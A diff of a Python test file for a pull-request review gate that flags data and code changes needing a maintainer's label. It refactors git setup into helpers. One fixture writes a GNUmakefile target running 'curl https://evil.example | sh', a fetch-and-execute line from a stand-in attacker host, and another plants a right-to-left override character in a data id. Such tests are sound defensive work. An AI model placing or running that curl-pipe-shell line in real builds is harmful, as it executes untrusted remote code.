@@ -78,27 +78,35 @@ def _git(cwd: Path, *args: str) -> None:
                    cwd=cwd, check=True, capture_output=True)
 
 
+def _commit_base(tree: Path) -> None:
+    """The tree as it is becomes branch main's one commit: the base a change is compared with."""
+    _git(tree, "init", "-q", "-b", "main")
+    _git(tree, "add", "-A")
+    _git(tree, "commit", "-qm", "base")
+
+
+def _gate(tree: Path, labels: str) -> subprocess.CompletedProcess:
+    """make diff's review gate on the tree against main, with these pull-request labels."""
+    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_STEP_SUMMARY", "BASE_REF")}
+    return subprocess.run([sys.executable, "-m", "scripts.prdiff", "--base", "main", "--head", str(tree), "--gate"],
+                          cwd=ROOT, capture_output=True, text=True, env={**env, "PR_LABELS": labels}, timeout=120)
+
+
 @pytest.mark.parametrize("labels, code", [("", 1), ("documentation,approved-data-and-code", 0)])
 def test_data_and_code_together_need_a_maintainers_label(tree, labels, code):
     (tree / "hooks").mkdir()
     (tree / "hooks" / "x.py").write_text("X = 1\n", encoding="utf-8")
-    _git(tree, "init", "-q", "-b", "main")
-    _git(tree, "add", "-A")
-    _git(tree, "commit", "-qm", "base")
+    _commit_base(tree)
     edit(tree / "data" / "facts" / "governance.yml", "  value: 16\n", "  value: 17\n")
     (tree / "hooks" / "x.py").write_text("import os\n", encoding="utf-8")
-    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_STEP_SUMMARY", "BASE_REF")}
-    result = subprocess.run([sys.executable, "-m", "scripts.prdiff", "--base", "main", "--head", str(tree), "--gate"],
-                            cwd=ROOT, capture_output=True, text=True, env={**env, "PR_LABELS": labels}, timeout=120)
+    result = _gate(tree, labels)
     assert result.returncode == code, result.stderr
     assert "现在：17个" in result.stdout and "`hooks/x.py`" in result.stdout
     assert "Traceback" not in result.stderr
 
 
 def test_data_that_does_not_validate_is_not_reported_as_all_removed(tree):
-    _git(tree, "init", "-q", "-b", "main")
-    _git(tree, "add", "-A")
-    _git(tree, "commit", "-qm", "base")
+    _commit_base(tree)
     edit(tree / "data" / "people.yml", "- id:", "- id: \"\\u202e\"\n  x:")
     text, paths = prdiff.run("main", tree)
     assert paths == ["data/people.yml"]
@@ -163,9 +171,7 @@ def test_every_path_is_data_page_text_or_code(path, kind):
 def test_non_ascii_names_reach_the_gate_as_they_are(tree):
     """git quotes a name with non-ASCII characters unless -z is used: "\\346\\225\\260" would
     match no pattern and slip through as neither data nor code."""
-    _git(tree, "init", "-q", "-b", "main")
-    _git(tree, "add", "-A")
-    _git(tree, "commit", "-qm", "base")
+    _commit_base(tree)
     (tree / "data" / "facts" / "数据.yml").write_text("[]\n", encoding="utf-8")
     (tree / "tests").mkdir()
     (tree / "tests" / "test_数据.py").write_text("import os\n", encoding="utf-8")
@@ -180,13 +186,9 @@ def test_non_ascii_names_reach_the_gate_as_they_are(tree):
 @pytest.mark.parametrize("labels, code", [("", 1), ("approved-data-and-code", 0)])
 def test_code_alone_needs_the_label_too(tree, labels, code):
     """A root GNUmakefile (make prefers it to Makefile, and CI runs make) with no data change."""
-    _git(tree, "init", "-q", "-b", "main")
-    _git(tree, "add", "-A")
-    _git(tree, "commit", "-qm", "base")
+    _commit_base(tree)
     (tree / "GNUmakefile").write_text("check:\n\tcurl https://evil.example | sh\n", encoding="utf-8")
-    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_STEP_SUMMARY", "BASE_REF")}
-    result = subprocess.run([sys.executable, "-m", "scripts.prdiff", "--base", "main", "--head", str(tree), "--gate"],
-                            cwd=ROOT, capture_output=True, text=True, env={**env, "PR_LABELS": labels}, timeout=120)
+    result = _gate(tree, labels)
     assert result.returncode == code, result.stderr
     assert "`GNUmakefile`" in result.stdout and "[!WARNING]" in result.stdout
     assert "Traceback" not in result.stderr
